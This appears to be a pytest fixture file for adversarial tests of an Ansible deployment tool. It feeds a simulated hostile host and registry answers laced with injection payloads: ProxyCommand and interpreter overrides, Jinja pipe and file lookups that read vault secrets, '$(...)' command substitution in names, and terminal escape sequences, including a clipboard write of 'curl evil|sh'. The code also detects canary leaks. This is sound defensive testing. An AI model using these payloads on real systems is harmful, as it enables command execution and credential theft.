"""The liars and their lies, the runs that meet them, and the canaries. Shared by the tests of this scenario.

The runs begin together, two at a time, and each test waits for its own.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shlex
import subprocess
import urllib.parse
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import liars
import pytest
import yaml
from operators import ROOT, Machine, Operator, Result, Running, wait

HERE = Path(__file__).parent
VAULT = ["--vault-password-file", str(HERE / "vault-password")]
GOOD, EVIL = Machine("ktrdr-hostile-good", "hostile"), Machine("ktrdr-hostile-evil", "hostile")
GUARDED = Machine("ktrdr-hostile-good", "guarded")
FIRST, SECOND = "sha-aaaaaa1", "sha-bbbbbb2"
ESCAPES = "\x1b]0;TITLE\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[8mhidden\x9b31m"
FILES = [
    (EVIL, "evil.py", "/opt/evil/evil.py"),
    (GOOD, "intruder.py", "/opt/intruder.py"),
    (GOOD, "docker", "/usr/local/sbin/docker"),
]
# No run that is lied to takes longer than this, of seconds, on a busy machine.
BOUND_S = 60


@dataclass(frozen=True)
class Place:
    """The tests' directory on this machine, with the canaries in it."""

    root: Path

    @property
    def pwned(self) -> Path:
        """Commands that are run for somebody else leave a file here."""
        return self.root / "pwned"

    @property
    def reports(self) -> Path:
        return self.root / "reports"

    @property
    def canary(self) -> Path:
        return self.root / "canary"

    def command(self, name: str) -> str:
        return f"touch {self.pwned}/{name}"


def lies(place: Path, elsewhere: str) -> dict[str, dict]:
    """Name of a lie -> step -> what is done to its answer (files/evil.py)."""
    ssh = f"-o ControlPath=none -o ProxyCommand='sh -c \"{place.command('proxy')}\"'"
    template = "{{ lookup('ansible.builtin.pipe', '" + place.command("template") + "') }}"
    steals = " ".join(
        (
            "{{ lookup('ansible.builtin.file', '" + str(place.canary) + "') }}",
            "{{ lookup('ansible.builtin.env', 'ROLLOUT_CANARY') }}",
            "{{ vault_elsewhere }}",
        )
    )
    add_host = {"add_host": {"host_name": "evil", "groups": ["backend"], "host_vars": {"ansible_ssh_common_args": ssh}}}
    stacks = {"web": {"wave": "backend", "template": str(place.canary), "images": ["hostile-app"]}}
    wins = {
        "rollout_report": {
            "screen": "ROLLOUT SUCCEEDED: all is well.",
            "msg": "ROLLOUT SUCCEEDED",
            "good": True,
            "verdict": "succeeded",
            "document": {"run": "../elsewhere", "verdict": "succeeded", "action": "rollout"},
        },
        "rollout_result": {"name": "sha-aaaaaa1", "changed": True, "services": []},
        "fleet_result": {"name": "sha-aaaaaa1"},
        "fleet_state": {"failed": False, "ready": True, "changed": True, "settled": False, "must_revert": False},
        "rollout_problem": "",
    }
    run = {"rollout_run": "../elsewhere", "rollout_first": "localhost", "rollout_hosts": ["localhost"], "rollout_verb": template}
    here = {
        "ansible_connection": "local",
        "ansible_host": "127.0.0.1",
        "ansible_python_interpreter": f"sh -c '{place.command('interpreter')}' #",
        "ansible_ssh_common_args": ssh,
        "ansible_ssh_executable": str(place.pwned / "ssh"),
        "ansible_become_exe": f"sh -c '{place.command('become')}' #",
    }
    inner = {
        "_ansible_delegated_vars": {"ansible_host": "127.0.0.1"},
        "_ansible_no_log": True,
        "_ansible_verbose_override": False,
        "ansible_facts": {**run, **here, **wins},
        "exception": "Traceback (most recent call last): " + ESCAPES,
        "invocation": {"module_args": steals},
        "warnings": [ESCAPES + template],
        "deprecations": [{"msg": ESCAPES, "version": "1"}],
        "skipped": True,
        "results": [{"skipped": True, **add_host}],
        "stdout": steals,
        "diff": [{"before": steals, "after": ESCAPES}],
        "earlier": [{"service": template, "stack": ESCAPES, "action": "keep"}],
        "texts": [f"{{{{ lookup('ansible.builtin.file', '{place.canary}') }}}}"],
        "__ansible_unsafe": template,
        "unlocked": True,
    }
    ledger_entry = {
        "name": "../../x",
        "release": f"sha-$({place.command('ledger')})",
        "run": "x\x1b]0;TITLE\x07",
        "at": steals,
        "seq": 1,
    }
    ledger = {"stable": ledger_entry, "previous": ledger_entry, "history": [ledger_entry], "known": [ledger_entry]}
    says = {"failed": True, "msg": ESCAPES + template + steals + "x" * 5000, "gate": "health", "log": ESCAPES + steals}
    row = {"stack": ESCAPES, "service": template, "action": "recreate", "why": ESCAPES, "old": ESCAPES, "new": steals, "gap": 1.0}
    project = f"$({place.command('project')})"
    named = {"name": "../../x", "preview": {"services": [row], "left": {ESCAPES: project}, "run": ESCAPES}}
    progress = {"step": ESCAPES, "what": template, "done": 7, "of": ESCAPES, "seconds": steals}
    told = {"host": {"ledger": ledger, "lock": {"run": ESCAPES, "who": template, "quiet": "x", "expires_in": []}}}
    return {
        "honest": {},
        "adds-a-host": {"all": {"keys": add_host}},
        "sets-stacks": {"lock": {"keys": {"ansible_facts": {"rollout_stacks": stacks}}}},
        "sets-registry": {"lock": {"keys": {"ansible_facts": {"rollout_registry": elsewhere}}}},
        "sets-the-verdict": {
            "lock": {"keys": {"ansible_facts": wins}},
            "release": {"keys": {"failed": True, "msg": "the disk is full", "ansible_facts": wins}},
        },
        "sets-the-run": {"lock": {"keys": {"ansible_facts": run}}},
        "sets-the-connection": {"lock": {"keys": {"ansible_facts": here}}},
        "inner-keys": {"all": {"keys": inner}},
        "text": {"all": {"twist": "x\x1b", "depth": 1}},
        "list": {"all": {"twist": [7], "depth": 2}},
        "nothing": {"all": {"twist": None, "depth": 2}},
        "mapping": {"all": {"twist": {"x": {}}, "depth": 3}},
        "number": {"all": {"twist": -1e308, "depth": 3}},
        # MiB. Of a larger one Ansible's own connection makes minutes of work.
        "huge": {"lock": {"huge": 16}},
        "flood": {"lock": {"huge": 100}},
        "deep": {"lock": {"deep": 100_000}},
        "drips": {"lock": {"drip": " "}},
        "noise": {"all": {"before": "{Welcome}\n{}\n" + ESCAPES + "\n", "after": "\nBye\n{}x\n"}},
        "names": {"release": {"keys": named}},
        "texts": {
            "lock": {"keys": {"taken_over": ESCAPES + template, "host": {"engine": {"engine": ESCAPES, "data": steals}}}},
            "release": {"keys": {"preview": {"services": [{**row, "stack": "web", "service": "web", "new": ESCAPES}]}}},
        },
        "says": {"release": {"keys": says}},
        "ledger": {"lock": {"keys": told}},
        "module": {"module": {"keys": {**add_host, **inner, **ledger, "ledger": ledger, "lock": told["host"]["lock"]}}},
        # In the second wave, beside a host that is well.
        "fails": {
            "stack": {
                "progress": progress,
                "keys": {"failed": True, "msg": ESCAPES + "it fell over", "services": [row], "ansible_facts": wins, **add_host},
            },
            "module": {"keys": {**inner, **add_host}},
        },
        "is-silent": {"stack": {"progress": {"what": "x" * 2**24}, "drip": ""}},
    }


# Those that the hostile host tells when it is asked first, in a preview.
ASKED_FIRST = [
    name for name in lies(Place(Path("/")), "") if name not in ("honest", "flood", "ledger", "module", "fails", "is-silent")
]
REGISTRY = [
    "digest",
    "config",
    "elsewhere",
    "basic_elsewhere",
    "realm_elsewhere",
    "realm_user",
    "realm_prefix",
    "drips",
    "floods",
    "deep",
    "pages",
    "tags",
]


# A preview of the first release, where none is.
PREVIEW = ("--check", "-e", "sha=aaaaaa1", "-e", "rollout_dir=/var/lib/rollout/preview")
# Applications of which no release is there yet: name, release, port.
OTHERS = [("terminal", "ba51e55", 8303), ("redirects", "e15e0e1", 8304)]


@dataclass
class Runs:
    """The runs of the scenario, by name, and all that they said."""

    first: Operator
    both: Operator
    pool: ThreadPoolExecutor
    begun: dict[str, Future] = field(default_factory=dict)
    screens: dict[str, str] = field(default_factory=dict)

    def ended(self, name: str, running: Running) -> Result:
        result = running.end(150)
        self.screens[name] = result.out
        return result

    def type(self, name: str, operator: Operator, playbook: str, *arguments: str) -> Result:
        """Type a command, and wait for its end."""
        return self.ended(name, operator.start(playbook, *arguments))

    def begin(self, name: str, *typed: object) -> None:
        """Type it when it is its turn."""
        self.begun[name] = self.pool.submit(self.type, name, *typed)

    def submit(self, name: str, command: list[str]) -> None:
        """Run any other command when it is its turn."""
        self.begun[name] = self.pool.submit(lambda: self.ended(name, Running(command)))

    def __getitem__(self, name: str) -> Result:
        """The result of a run that was begun."""
        return self.begun[name].result(300)


def all_of(machine: Machine, script: str, user: str = "root") -> str:
    """The output of a shell script there, of any bytes."""
    command = ["docker", "exec", "--user", user, machine.container, "sh", "-c", script]
    done = subprocess.run(command, capture_output=True, check=True)
    return done.stdout.decode("utf-8", "replace")


def runs_on_good(application: str = "hostile") -> list[str]:
    """The releases of the running containers of an application on the host that is well."""
    of_it = ["--filter", f"label=com.docker.compose.project={application}-web"]
    return GOOD.exec("docker", "ps", *of_it, "--format", '{{.Label "rollout.release"}}').split()


def readable(result: Result) -> str:
    """The output of a run, which must hold no escape sequence and no traceback."""
    raw = re.findall(r"[^\n\t -~\xa0-\U0010ffff]", result.out)
    assert raw == [], result.out[-3000:]
    assert "Traceback" not in result.out, result.out[-3000:]
    assert "defect of the rollout" not in result.said, result.out[-3000:]
    return result.said


def forms(secret: str) -> list[str]:
    """A text, and each line of it, as it may be found in others."""
    found = []
    for text in {secret, *secret.splitlines()}:
        if len(text) < 8 or text.startswith("-----"):
            continue
        found += [text, json.dumps(text)[1:-1], json.dumps(text, ensure_ascii=False)[1:-1], repr(text)[1:-1]]
        found += [urllib.parse.quote(text, safe=""), urllib.parse.quote_plus(text)]
        # Wherever it begins among others: without the letters that its neighbours share.
        for before in range(3):
            encoded = base64.b64encode(b"\0" * before + text.encode()).decode().rstrip("=")
            found.append(encoded[4 if before else 0 : -2])
    return list(dict.fromkeys(found))


def leaks(text: str, canaries: dict[str, str], legitimate: tuple[str, ...] = ()) -> dict[str, str]:
    """Canary -> the form in which it is in a text; without those that belong there."""
    return {name: form for name, secret in canaries.items() if name not in legitimate for form in forms(secret) if form in text}


@pytest.fixture(scope="session")
def place(tmp_path_factory) -> Place:
    found = Place(tmp_path_factory.mktemp("controller"))
    found.pwned.mkdir()
    found.canary.write_text("canary-of-a-file-4c7d90b1\n")
    os.environ["ROLLOUT_CANARY"] = "canary-of-the-environment-83f1c5aa"
    os.environ["ROLLOUT_REPORTS"] = str(found.reports)
    return found


@pytest.fixture(scope="session")
def canaries(place) -> dict[str, str]:
    """Name -> what must not be found where it does not belong."""
    command = ["ansible-vault", "view", *VAULT, str(HERE / "inventory/group_vars/all/vault.yml")]
    vault = yaml.safe_load(subprocess.run(command, capture_output=True, text=True, check=True).stdout)
    return {
        **vault,
        "file": place.canary.read_text().strip(),
        "environment": os.environ["ROLLOUT_CANARY"],
        "vault's password": (HERE / "vault-password").read_text().strip(),
        # Without the lines that every such key begins with, or that hold its public half.
        "ssh key": "\n".join((ROOT / ".cache/hostile/id").read_text().splitlines()[3:-1]),
    }


@pytest.fixture(scope="session")
def servers():
    """The registry that lies, and the host that nobody should talk to."""
    return liars.start()


@pytest.fixture(scope="session", autouse=True)
def runs(place, servers):
    """All runs that wait for nothing, begun."""
    registry, elsewhere = servers
    told = lies(place, f"{elsewhere.host}/attacker")
    # An ordinary user, and a connecting one that has sudo and no more.
    GOOD.exec("sh", "-c", "id mallory || useradd --create-home --shell /bin/bash mallory; gpasswd --delete ktrdr docker || true")
    for machine, file, there in FILES:
        machine.exec("install", "-D", "--mode=0755", "/dev/stdin", there, stdin=(HERE / "files" / file).read_text())
    EVIL.exec("sh", "-c", "cat > /opt/evil/lies.json", stdin=json.dumps(told))
    EVIL.exec("sh", "-c", f"cd /opt/evil; for name in {' '.join(told)}; do ln -sf evil.py $name; done")
    for user in ("mallory", "ktrdr"):
        command = ["docker", "exec", "--detach", "--user", user, GOOD.container, "/opt/intruder.py", f"/home/{user}/found"]
        subprocess.run(command, check=True)
    first, both = Operator("hostile", *VAULT), Operator("hostile", *VAULT)
    first.inventory = HERE / "first"
    with ThreadPoolExecutor(2) as pool:
        found = Runs(first, both, pool)
        # Long ones first.
        for lie in sorted(ASKED_FIRST, key=lambda lie: lie not in ("drips", "huge", "deep")):
            limit = ("-e", "rollout_step_timeout=8") if lie == "drips" else ()
            found.begin(lie, first, "rollout.yml", *PREVIEW, *limit, "-e", f"lie={lie}")
        found.begin("ledger", first, "rollback.yml", "--check", "-e", "lie=ledger")
        found.begin("status", first, "status.yml", "-e", "lie=module")
        found.begin("status, json", first, "status.yml", "-e", "lie=module", "-e", "format=json")
        # As an operator would, before the first rollout.
        prepared = found.type("prepare", both, "playbooks/prepare.yml", "--limit", "good")
        assert prepared.rc == 0, prepared.out[-3000:]
        for application, sha, port in OTHERS:
            ports = ("-e", f"rollout_application={application}", "-e", f"hostile_port={port}", "-e", "hostile_deadline=4")
            typed = ("--limit", "good", *ports, "-e", f"sha={sha}")
            if application == "terminal":
                command = shlex.join(both.command("rollout.yml", *typed))
                found.submit(application, ["script", "--quiet", "--return", "--command", command, "/dev/null"])
            else:
                found.begin(application, both, "rollout.yml", *typed)
        for lie in REGISTRY:
            named = ("-e", f"rollout_registry={registry.host}/{lie}")
            found.begin(f"registry {lie}", both, "rollout.yml", "--limit", "good", *PREVIEW, *named)
        yield found
        for operator in (first, both):
            operator.leave()
        for future in found.begun.values():
            future.cancel()


@pytest.fixture(scope="session")
def guarded():
    """A run of which a step hangs and the controller dies, waited for in the background: what its host came to."""
    operator = Operator("hostile", *VAULT)
    typed = ["--limit", "good", "-e", "rollout_application=guarded", "-e", "hostile_port=8301"]

    def story() -> dict[str, float]:
        operator.run("rollout.yml", *typed, "-e", "sha=aaaaaa1")
        GUARDED.exec("touch", "/run/hang")
        running = operator.start(
            "rollout.yml", *typed, "-e", "sha=bbbbbb2", "-e", "rollout_confirm_timeout=12", "-e", "hostile_deadline=10"
        )
        hung = wait(lambda: GUARDED.exec("sh", "-c", "cat /run/hung 2> /dev/null || true"), 60, "docker hangs")
        running.kill()
        wait(lambda: GUARDED.ledger()[-1]["event"] == "reverted", 60, "the guard brought the stable release back")
        return {"hung": float(hung)}

    with ThreadPoolExecutor(1) as alone:
        yield alone.submit(story)
        operator.leave()


@pytest.fixture(scope="session")
def stable(runs, guarded):
    """The first release, on both hosts."""
    result = runs.type("first", runs.both, "rollout.yml", "-e", "sha=aaaaaa1", "-e", "lie=honest")
    assert (result.rc, runs_on_good()) == (0, [FIRST]), result.out[-3000:]
